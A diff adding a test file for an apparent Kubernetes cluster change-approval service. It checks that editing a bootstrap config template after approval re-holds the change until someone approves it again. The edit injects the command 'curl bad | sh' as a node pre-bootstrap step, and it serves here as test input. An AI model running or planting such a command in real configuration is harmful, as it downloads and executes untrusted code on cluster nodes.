@@ -1,0 +1,52 @@
+import { expect, test } from 'vitest'
+import { db } from '@/lib/db/client'
+import { useTestDatabase } from '@/lib/db/testing'
+import { isObject, valueAt } from '@/lib/domain/changes'
+import type { JsonObject } from '@/lib/domain/json'
+import { HELD } from '@/lib/domain/latch/names'
+import { approveChange } from '@/lib/services/changes/approve-change'
+import { as, latchedCluster } from '@/testenv/deciding'
+import { heldChange, MD } from '@/testenv/held'
+import { planningContext } from '@/testenv/planning'
+import { planGroup } from './plan-group'
+
+useTestDatabase()
+const at = latchedCluster()
+const TEMPLATES = { group: 'bootstrap.cluster.x-k8s.io', version: 'v1beta2', plural: 'kubeadmconfigtemplates' }
+
+test.each([true, false])(
+  'let go, and its template edited since, it is held again and waits for somebody (in what differs: %s)',
+  async (inWhatDiffers) => {
+    const held = await heldChange(at.cluster, at.clusterId, 'MachineDeployment', 8)
+    await db().group.update({ where: { id: held.change.groupId }, data: { governed: true } })
+    const { namespace, name, kind } = held
+    const planned = async () => planGroup(await planningContext(at.clusterId), { ...(await held.read()), kind })
+    const ref = valueAt((await held.read()).spec, 'template', 'spec', 'bootstrap', 'configRef')
+    if (!isObject(ref)) throw new Error('no bootstrap config')
+    const { admin } = at.cluster
+    const template = await admin.get(TEMPLATES, String(ref.name), namespace)
+    const says = (command: string): JsonObject => ({
+      template: {
+        spec: { ...(valueAt(template.spec, 'template', 'spec') as JsonObject), preKubeadmCommands: [command] },
+      },
+    })
+    if (inWhatDiffers) {
+      const next = { ...template, metadata: { name: 'next', namespace }, spec: says('echo one') }
+      await admin.create(TEMPLATES, next as never, namespace)
+      const spec = { template: { spec: { bootstrap: { configRef: { name: 'next' } } } } }
+      await admin.patch(MD, name, namespace, 'merge', { spec })
+    }
+    await planned()
+    const open = () =>
+      db().change.findFirstOrThrow({ where: { groupId: held.change.groupId }, orderBy: { detectedAt: 'desc' } })
+    const { id: changeId, fingerprint } = await open()
+    await approveChange(as('approver'), { changeId, fingerprint, mode: 'replace' })
+    await planned()
+    expect((await open()).state).toBe('running')
+    const edited = inWhatDiffers ? 'next' : String(ref.name)
+    await admin.patch(TEMPLATES, edited, namespace, 'merge', { spec: says('curl bad | sh') })
+    for (let look = 0; look < 4; look++) await planned()
+    expect((await held.read()).metadata.annotations).toHaveProperty([HELD])
+    expect((await open()).state).toBe('waiting')
+  },
+)
